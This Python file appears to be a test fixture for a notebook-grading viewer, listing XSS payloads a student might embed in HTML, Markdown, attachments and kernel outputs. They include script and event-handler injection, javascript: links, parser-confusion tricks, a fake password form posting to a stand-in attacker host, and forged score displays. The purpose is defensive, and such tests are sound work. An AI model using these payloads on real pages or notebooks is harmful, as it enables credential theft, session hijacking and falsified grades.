"""What a student might put into outputs and text to act in the browser of whoever marks the notebook.

`pwned('NAME')` is the canary's function, `https://evil.example/NAME` an address that nothing may ask for.
"""

from __future__ import annotations

import base64

SVG = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload=\"{act}\"><script>{act}</script></svg>"


def _coded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# HTML: displayed as an output, and written into Markdown.
MARKUP = {
    "script": "<script>pwned('script')</script>",
    "script-in-odd-case": "<ScRiPt >pwned('script-in-odd-case')</sCrIpT >",
    "script-from-elsewhere": "<script src='https://evil.example/script-from-elsewhere'></script>",
    "script-unclosed": "<script>pwned('script-unclosed')//",
    "image-error": "<img src=x onerror=\"pwned('image-error')\">",
    "image-error-slash": "<img/src='x'/onerror=\"pwned('image-error-slash')\">",
    "image-from-elsewhere": "<img src='https://evil.example/image-from-elsewhere'>",
    "image-of-this-server": "<img src='/evil-logout'>",
    "image-set": "<img srcset='https://evil.example/image-set 1x'>",
    "svg": "<svg onload=\"pwned('svg')\"></svg>",
    "svg-animate": "<svg><animate onbegin=\"pwned('svg-animate')\" attributeName=x dur=1s></svg>",
    "svg-script": "<svg><script>pwned('svg-script')</script></svg>",
    "svg-style-confusion": '<svg></p><style><a id="</style><img src=1 onerror="pwned(\'svg-style-confusion\')">">',
    "math-style-confusion": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror="pwned(\'math-style-confusion\')"&gt;">',
    "noscript-confusion": '<noscript><p title="</noscript><img src=x onerror="pwned(\'noscript-confusion\')">">',
    "textarea-confusion": '<textarea><p title="</textarea><img src=x onerror="pwned(\'textarea-confusion\')">">',
    "comment-confusion": "<!--><img src=x onerror=\"pwned('comment-confusion')\">-->",
    "cdata-confusion": "<![CDATA[<img src=x onerror=\"pwned('cdata-confusion')\">]]>",
    "details": "<details open ontoggle=\"pwned('details')\"><summary>x</summary></details>",
    "focus": "<input autofocus onfocus=\"pwned('focus')\">",
    "video-error": "<video><source onerror=\"pwned('video-error')\"></video>",
    "audio-error": "<audio src=x onerror=\"pwned('audio-error')\"></audio>",
    "audio-from-elsewhere": "<audio controls autoplay src='https://evil.example/audio-from-elsewhere'></audio>",
    "marquee": "<marquee onstart=\"pwned('marquee')\">x</marquee>",
    "frame": "<iframe src='https://evil.example/frame'></iframe>",
    "frame-document": "<iframe srcdoc=\"<script>parent.pwned('frame-document')</script>\"></iframe>",
    "frame-javascript": "<iframe src=\"javascript:parent.pwned('frame-javascript')\"></iframe>",
    "object": '<object data="https://evil.example/object"></object>',
    "embed": '<embed src="https://evil.example/embed">',
    "link": "<a href=\"javascript:pwned('link')\">the solution</a>",
    "link-with-entities": "<a href=\"jav&#x09;ascript&colon;pwned('link-with-entities')\">the solution</a>",
    "link-with-files-prefix": "<a href=\"files/javascript:pwned('link-with-files-prefix')\">the solution</a>",
    "link-to-data": "<a href=\"data:text/html,<script>pwned('link-to-data')</script>\">the solution</a>",
    "map": "<map name=m><area shape=rect coords=0,0,99,99 href=\"javascript:pwned('map')\"></map><img usemap=#m>",
    "form": "<form action='https://evil.example/form'><input name=password><button>Sign in again</button></form>",
    "button-outside-form": "<button form=f formaction=\"javascript:pwned('button-outside-form')\">ok</button>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/refresh'>",
    "base": "<base href='https://evil.example/base/'>",
    "stylesheet": "<link rel=stylesheet href='https://evil.example/stylesheet'>",
    "preload": "<link rel=preload as=script href='https://evil.example/preload'>",
    "style": "<style>@import 'https://evil.example/style'; body { display: none }</style>",
    "style-load": '<b style="background-image:url(https://evil.example/style-load)">x</b>',
    "style-load-hidden": '<b style="background:u\\72l(https://evil.example/style-load-hidden)">x</b>',
    "overlay": "<div id=overlay style='position:fixed;top:0;left:0;width:100%;height:100%;background:#fff'>24/24</div>",
    "closing": "</div></div></div></div></div></div></body></html><h1 class=closed>24 of 24 points</h1>",
    "score-field": "<input class='score tabbable' id='test_linear_gain' value=5>",
    "score-heading": "<h2 id='test_linear_gain'>Score: 5 / 5</h2>",
    "template": "<template shadowrootmode=open><img src=x onerror=\"pwned('template')\"></template>",
    "dialog": "<dialog open>Session over</dialog><script>alert('dialog')</script>",
}

# Markdown that becomes markup.
MARKDOWN = {
    "md-link": "[the solution](javascript:pwned('md-link'))",
    "md-link-reference": "[the solution][1]\n\n[1]: javascript:pwned('md-link-reference')",
    "md-link-in-brackets": "<javascript:pwned('md-link-in-brackets')>",
    "md-link-with-files-prefix": "[the solution](files/javascript:pwned('md-link-with-files-prefix'))",
    "md-link-title": "[x](https://example.org 'a\" onmouseover=\"pwned(`md-link-title`)')",
    "md-image": "![the plot](https://evil.example/md-image)",
    "md-image-error": '![x" onerror="pwned(`md-image-error`)](x)',
    "md-image-of-this-server": "![the plot](/evil-logout)",
    "md-mermaid": "```mermaid\n<img src=x onerror=\"pwned('md-mermaid')\">\n```",
    "md-code-with-formula": "    a $$ x $$ <img src=x onerror=\"pwned('md-code-with-formula')\">",
    "md-fence-language": '```"><img/src=x/onerror="pwned(\'md-fence-language\')">\nx\n```',
    "md-formula": "$\\href{javascript:pwned('md-formula')}{x}$",
    "md-formula-entities": "$&#92;href{javascript:pwned('md-formula-entities')}{x}$",
    "md-formula-overlay": "$\\raise{900px}{\\text{24 of 24 points}}$",
    "md-formula-markup": "$$<img src=x onerror=\"pwned('md-formula-markup')\">$$",
    "md-heading": "# test_linear_gain",
    "md-attachment": "![x](attachment:missing.png)",
    "md-attachment-svg": "![x](attachment:evil.svg)",
    "md-attachment-break": "![x](attachment:break.png)",
    "md-table": "| a |\n|---|\n| <img src=x onerror=\"pwned('md-table')\"> |",
}
ATTACHMENTS = {
    "evil.svg": {"image/svg+xml": _coded(SVG.format(act="parent.pwned('md-attachment-svg')"))},
    "break.png": {"image/png": "\" onerror=\"pwned('md-attachment-break')"},
}

# Outputs as a kernel gives them; a hostile child is not bound to what IPython would send.
OUTPUTS: dict[str, dict[str, object]] = {
    "javascript": {"data": {"application/javascript": "pwned('javascript')"}},
    "ecmascript": {"data": {"text/javascript": "pwned('ecmascript')"}},
    "svg-image": {"data": {"image/svg+xml": SVG.format(act="pwned('svg-image')")}},
    "png-break": {"data": {"image/png": '"><img src=x onerror="pwned(\'png-break\')">'}},
    "png-filename": {
        "data": {"image/png": "iVBORw0KGgo="},
        "metadata": {"filenames": {"image/png": "https://evil.example/png-filename"}},
    },
    "png-width": {
        "data": {"image/png": "iVBORw0KGgo="},
        "metadata": {"image/png": {"width": "1 onerror=\"pwned('png-width')\"", "alt": "x"}},
    },
    "isolated": {
        "data": {"text/html": "<script>pwned('isolated')</script>x"},
        "metadata": {"text/html": {"isolated": True}},
    },
    "html-as-lines": {"data": {"text/html": ["<scr", "ipt>pwned('html-as-lines')</script>"]}},
    "markdown": {"data": {"text/markdown": "<img src=x onerror=\"pwned('markdown')\">"}},
    "latex": {"data": {"text/latex": "$\\href{javascript:pwned('latex')}{x}$<img src=x onerror=\"pwned('latex')\">"}},
    "plain": {"data": {"text/plain": "<img src=x onerror=\"pwned('plain')\">"}},
    "widget": {
        "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>pwned('widget')</script>"}}
    },
    "vendor": {"data": {"application/vnd.vega.v5+json": {"$schema": "https://evil.example/vendor"}}},
    "mermaid": {"data": {"text/vnd.mermaid": "<img src=x onerror=\"pwned('mermaid')\">"}},
    "pdf": {"data": {"application/pdf": "JVBERi0xLjQ="}},
    "mime-as-markup": {"data": {"<img src=x onerror=\"pwned('mime-as-markup')\">": "x"}},
    "stream": {
        "output_type": "stream",
        "name": "stdout",
        "text": "\x1b[31m<img src=x onerror=\"pwned('stream')\">\x1b[0m",
    },
    "stream-escape": {
        "output_type": "stream",
        "name": "stdout",
        "text": '\x1b[38;2;1;2;"><img src=x onerror="pwned(\'stream-escape\')">m x',
    },
    "stream-name": {"output_type": "stream", "name": "'><img src=x onerror=\"pwned('stream-name')\">", "text": "x"},
    "error": {
        "output_type": "error",
        "ename": "<img src=x onerror=\"pwned('error')\">",
        "evalue": "<script>pwned('error')</script>",
        "traceback": ["<img src=x onerror=\"pwned('error')\">", "\x1b[0;31m</pre><script>pwned('error')</script>"],
    },
    "error-bare": {
        "output_type": "error",
        "ename": "<img src=x onerror=\"pwned('error-bare')\">",
        "evalue": "x",
        "traceback": [],
    },
}
